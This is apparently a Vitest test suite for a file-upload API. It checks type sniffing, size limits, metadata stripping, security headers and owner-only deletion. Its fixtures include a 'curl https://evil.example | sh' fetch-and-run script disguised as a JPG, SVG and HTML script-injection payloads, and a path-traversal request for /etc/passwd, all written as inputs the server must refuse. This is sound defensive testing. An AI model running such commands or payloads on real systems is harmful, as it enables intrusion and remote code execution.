import { crc32 } from 'node:zlib';
import { FILE_UPLOAD_MAX_BYTES, uploadTypeNotAllowedMessage } from '@partnerly/contracts';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test/create-test-app';
import { startLocalS3, type LocalS3 } from '../../test/local-s3';
import { createTestUser, type TestUser } from '../../test/users';

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 90 } } });

/** A PNG with a tEXt chunk right after IHDR (where editors put comments and locations). */
async function pngWithTextChunk(text: string): Promise<Buffer> {
  const png = await solid(16, 16).png().toBuffer();
  const typeAndData = Buffer.concat([Buffer.from('tEXt'), Buffer.from(`Comment\0${text}`, 'latin1')]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(typeAndData.length - 4);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  const afterIhdr = 8 + 25;
  return Buffer.concat([png.subarray(0, afterIhdr), length, typeAndData, crc, png.subarray(afterIhdr)]);
}

/** Random noise does not compress: a real PNG of about `bytes` bytes. */
async function noisyPng(bytes: number): Promise<Buffer> {
  const side = Math.ceil(Math.sqrt(bytes / 3));
  const pixels = Buffer.alloc(side * side * 3);
  for (let index = 0; index < pixels.length; index += 1) pixels[index] = (index * 2654435761) >>> 24;
  return sharp(pixels, { raw: { width: side, height: side, channels: 3 } })
    .png({ compressionLevel: 0 })
    .toBuffer();
}

/** The ftyp box a file-type sniffer recognises as MP4, padded to `bytes`. */
function mp4Of(bytes: number): Buffer {
  const ftyp = Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    Buffer.from('ftypmp42'),
    Buffer.alloc(4),
    Buffer.from('mp42isom'),
  ]);
  return Buffer.concat([ftyp, Buffer.alloc(bytes - ftyp.length)]);
}

function form(bytes: Uint8Array, purpose: string, name = 'file.bin', type = 'application/octet-stream') {
  const body = new FormData();
  body.append('file', new File([bytes as Uint8Array<ArrayBuffer>], name, { type }));
  body.append('purpose', purpose);
  return body;
}

describe('uploads', () => {
  let t: TestApp;
  let owner: TestUser;
  let other: TestUser;
  beforeAll(async () => {
    t = await createTestApp();
    owner = await createTestUser(t, { email: 'owner@example.com' });
    other = await createTestUser(t, { email: 'other@example.com' });
  });
  afterAll(() => t.close());

  const upload = (user: TestUser | null, body: FormData) =>
    t.request('/api/uploads', { method: 'POST', body, headers: user ? { cookie: user.cookie } : {} });
  const uploadOk = async (body: FormData) => {
    const response = await upload(owner, body);
    expect(response.status, await response.clone().text()).toBe(201);
    return (await response.json()) as { id: string; url: string; contentType: string; size: number };
  };

  it('answers 401 when signed out, before reading the file', async () => {
    const response = await upload(null, form(await solid(4, 4).png().toBuffer(), 'avatar'));
    expect(response.status).toBe(401);
    expect(await response.json()).toMatchObject({ error: { code: 'UNAUTHENTICATED' } });
  });

  it('refuses a script renamed .jpg with 415 in plain words, judging by the bytes', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const messages: [string, string][] = [
      ['avatar', 'Please choose a JPG, PNG or WebP image'],
      ['content', 'Please choose a JPG, PNG or WebP image, or an MP4, WebM or MOV video'],
      ['document', 'Please choose an image, a video (MP4, WebM or MOV), a PDF or a text file'],
    ];
    for (const [purpose, message] of messages) {
      const response = await upload(owner, form(script, purpose, 'holiday.jpg', 'image/jpeg'));
      expect(response.status).toBe(415);
      expect(await response.json()).toEqual({ error: { code: 'UNSUPPORTED_MEDIA_TYPE', message } });
    }
  });

  it('refuses other image-like and active types: SVG, TIFF, HTML, executables', async () => {
    const cases: [Uint8Array, 'logo' | 'avatar' | 'document', string][] = [
      [
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        'logo',
        'image/svg+xml',
      ],
      [await solid(4, 4).tiff().toBuffer(), 'avatar', 'image/tiff'],
      [Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'document', 'text/html'],
      [
        Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]),
        'document',
        'application/x-elf',
      ],
      [
        Buffer.from('%PDF-1.4\n%\xe2\xe3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n', 'latin1'),
        'avatar',
        'application/pdf',
      ],
    ];
    for (const [bytes, purpose, type] of cases) {
      const response = await upload(owner, form(bytes, purpose, 'picture.png', 'image/png'));
      expect(response.status, type).toBe(415);
      expect((await response.json()).error.message).toBe(uploadTypeNotAllowedMessage(purpose));
    }
  });

  it('refuses a 6 MB image with 413', async () => {
    const image = await noisyPng(6 * 1024 * 1024);
    expect(image.byteLength).toBeGreaterThan(6 * 1024 * 1024 - 100_000);
    for (const purpose of ['avatar', 'document']) {
      const response = await upload(owner, form(image, purpose, 'big.png', 'image/png'));
      expect(response.status).toBe(413);
      expect(await response.json()).toEqual({
        error: {
          code: 'PAYLOAD_TOO_LARGE',
          message: 'This file is too large. Please choose one of 5 MB or less.',
        },
      });
    }
  });

  it('accepts a 6 MB video for content (the 50 MB generic limit)', async () => {
    const created = await uploadOk(form(mp4Of(6 * 1024 * 1024), 'content', 'clip.mov', 'video/quicktime'));
    expect(created).toMatchObject({ contentType: 'video/mp4', size: 6 * 1024 * 1024 });
  });

  it('refuses a body over the limit from its Content-Length, without reading it', async () => {
    const response = await t.request('/api/uploads', {
      method: 'POST',
      headers: {
        cookie: owner.cookie,
        'content-type': 'multipart/form-data; boundary=x',
        'content-length': String(FILE_UPLOAD_MAX_BYTES + 1024 * 1024),
      },
      body: '--x--',
    });
    expect(response.status).toBe(413);
    expect((await response.json()).error.message).toBe(
      'This file is too large. Please choose one of 50 MB or less.',
    );
  });

  it('answers 400 with field messages for a missing file or an unknown purpose', async () => {
    const body = new FormData();
    body.append('purpose', 'wallpaper');
    const response = await upload(owner, body);
    expect(response.status).toBe(400);
    const { error } = await response.json();
    expect(error.code).toBe('VALIDATION_FAILED');
    expect(Object.keys(error.fields).sort()).toEqual(['file', 'purpose']);
  });

  it('answers 400 for a damaged image', async () => {
    const png = await solid(64, 64).png().toBuffer();
    const response = await upload(owner, form(png.subarray(0, 60), 'avatar'));
    expect(response.status).toBe(400);
    expect((await response.json()).error.message).toBe('The image file is damaged or unreadable');
  });

  it('strips PNG text chunks and serves the stored type with nosniff and a locked-down CSP', async () => {
    const png = await pngWithTextChunk('home: 51.5007 -0.1246');
    expect((await sharp(png).metadata()).comments).toHaveLength(1);
    // The client claims GIF; the bytes say PNG.
    const created = await uploadOk(form(png, 'avatar', 'me.gif', 'image/gif'));
    expect(created).toEqual({
      id: expect.any(String),
      url: `/api/uploads/${created.id}`,
      contentType: 'image/png',
      size: expect.any(Number),
    });

    const served = await t.request(created.url);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('content-disposition')).toBe('inline');
    const bytes = Buffer.from(await served.arrayBuffer());
    expect(bytes.byteLength).toBe(created.size);
    expect(bytes.includes('51.5007')).toBe(false);
    const metadata = await sharp(bytes).metadata();
    expect(metadata).toMatchObject({ format: 'png', width: 16, height: 16 });
    expect(metadata.comments).toBeUndefined();
  });

  it('strips JPEG EXIF after turning the picture upright', async () => {
    const jpeg = await solid(40, 20)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExifMerge({ IFD0: { Artist: 'Secret Person', Copyright: 'GPS 51.5,-0.12' } })
      .toBuffer();
    expect(jpeg.includes('Secret Person')).toBe(true);
    const created = await uploadOk(form(jpeg, 'campaign-banner'));
    expect(created.contentType).toBe('image/jpeg');

    const bytes = Buffer.from(await (await t.request(created.url)).arrayBuffer());
    expect(bytes.includes('Secret Person')).toBe(false);
    const metadata = await sharp(bytes).metadata();
    expect(metadata.exif).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    expect([metadata.width, metadata.height]).toEqual([20, 40]);
  });

  it('keeps an animated GIF animated', async () => {
    const frames = await Promise.all(
      ['#f00', '#0f0', '#00f'].map((background) =>
        sharp({ create: { width: 8, height: 8, channels: 4, background } })
          .png()
          .toBuffer(),
      ),
    );
    const gif = await sharp(frames, { join: { animated: true } })
      .gif({ delay: [100, 100, 100] })
      .toBuffer();
    const created = await uploadOk(form(gif, 'content'));
    const bytes = Buffer.from(await (await t.request(created.url)).arrayBuffer());
    expect(await sharp(bytes, { animated: true }).metadata()).toMatchObject({ format: 'gif', pages: 3 });
  });

  it('serves documents as attachments with their stored type', async () => {
    const text = 'Brief: two reels, one story.\n';
    const created = await uploadOk(form(Buffer.from(text), 'document', 'brief.html', 'text/html'));
    expect(created.contentType).toBe('text/plain');
    const served = await t.request(created.url);
    expect(served.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(served.headers.get('content-disposition')).toBe(`attachment; filename="${created.id}.txt"`);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await served.text()).toBe(text);
  });

  it('serves byte ranges (video players need them)', async () => {
    const created = await uploadOk(form(mp4Of(4096), 'content'));
    const partial = await t.request(created.url, { headers: { range: 'bytes=4-11' } });
    expect(partial.status).toBe(206);
    expect(partial.headers.get('content-range')).toBe('bytes 4-11/4096');
    expect(Buffer.from(await partial.arrayBuffer()).toString('latin1')).toBe('ftypmp42');
    const outside = await t.request(created.url, { headers: { range: 'bytes=5000-' } });
    expect(outside.status).toBe(416);
  });

  it('answers 404 for an unknown id and 400 for a malformed one', async () => {
    expect((await t.request('/api/uploads/7a1c1f9e-3a1c-4a53-9a55-8d1c7f1d2e3b')).status).toBe(404);
    expect((await t.request('/api/uploads/..%2F..%2Fetc%2Fpasswd')).status).toBe(400);
  });

  it('lets only the owner delete: another user gets 404, signed out 401', async () => {
    const created = await uploadOk(form(await solid(8, 8).webp().toBuffer(), 'logo'));
    expect(created.contentType).toBe('image/webp');

    const byOther = await t.request(created.url, { method: 'DELETE', headers: { cookie: other.cookie } });
    expect(byOther.status).toBe(404);
    expect((await t.request(created.url, { method: 'DELETE' })).status).toBe(401);
    expect((await t.request(created.url)).status).toBe(200);

    const byOwner = await t.request(created.url, { method: 'DELETE', headers: { cookie: owner.cookie } });
    expect(byOwner.status).toBe(204);
    expect((await t.request(created.url)).status).toBe(404);
  });
});

describe('uploads on S3-compatible storage', () => {
  let s3: LocalS3;
  let t: TestApp;
  beforeAll(async () => {
    s3 = await startLocalS3();
    t = await createTestApp(s3.env);
  });
  afterAll(async () => {
    await t.close();
    await s3.close();
  });

  it('stores the cleaned file in the bucket and serves it back', async () => {
    expect(t.deps.storage.kind).toBe('s3');
    const user = await createTestUser(t, { email: 's3@example.com' });
    const png = await pngWithTextChunk('secret');
    const response = await t.request('/api/uploads', {
      method: 'POST',
      headers: { cookie: user.cookie },
      body: form(png, 'avatar'),
    });
    expect(response.status).toBe(201);
    const created = (await response.json()) as { id: string; url: string };
    const served = await t.request(created.url);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await served.arrayBuffer()).includes('secret')).toBe(false);
  });
});
